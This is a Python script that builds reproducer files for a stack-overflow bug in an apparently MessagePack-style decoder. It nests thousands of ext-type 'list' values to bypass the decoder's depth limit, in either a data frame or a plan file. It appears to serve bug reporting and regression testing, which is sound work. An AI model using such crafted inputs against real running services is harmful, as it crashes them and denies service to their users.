#!/usr/bin/env python3
"""Reproducers for unbounded recursion through nested user-type (ext 1) values.

Every level is an ext value of type 1 whose body is the type name "list" followed by the next
level; the "list" codec decodes its body with Decoder::ReadObject, which opens a new Decoder per
ext value, so the nesting limit (kMaxDepth) never applies. ~5 500 levels (60 KB) overflow the
8 MiB stack of the ASan build, ~21 800 levels (240 KB) an -O2 build.

  python3 make_ext_nesting.py frame 6000 ext_nesting_frame   # mode 0: a kData frame
  python3 make_ext_nesting.py plan 6000 ext_nesting_plan     # mode 2: a plan's reader prototype
"""
import struct
import sys


def nest(depth):
    parts = []
    for level in range(depth, 0, -1):  # outermost first; level k's body is 11(k-1)+6 bytes
        parts.append(b'\xc9' + struct.pack('>I', 11 * (level - 1) + 6) + b'\x01\xa4list')
    return b''.join(parts) + b'\xc0'


def fixstr(text):
    return bytes([0xa0 | len(text)]) + text.encode()


def main():
    kind, depth, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    if kind == 'frame':
        # mode 0, header "QK" v1 kData count=1 link=0, body [nested]
        data = b'\x00' + b'QK\x01\x01' + struct.pack('<IQ', 1, 0) + b'\x91' + nest(depth)
    else:
        # mode 2, plan [1, 7, [["a",1,"h",1]], [1, 256 MiB, 0],
        #               [[0, "n", kReader, nested, nil, false, [], [0], [], []]], nil]
        data = (b'\x02' + b'\x96\x01\x07' + b'\x91\x94' + fixstr('a') + b'\x01' + fixstr('h') +
                b'\x01' + b'\x93\x01\xce\x10\x00\x00\x00\x00' + b'\x91\x99\x00' + fixstr('n') +
                b'\x00' + nest(depth) + b'\xc0\xc2\x90\x91\x00\x90\x90' + b'\xc0')
    with open(path, 'wb') as out:
        out.write(data)


if __name__ == '__main__':
    main()
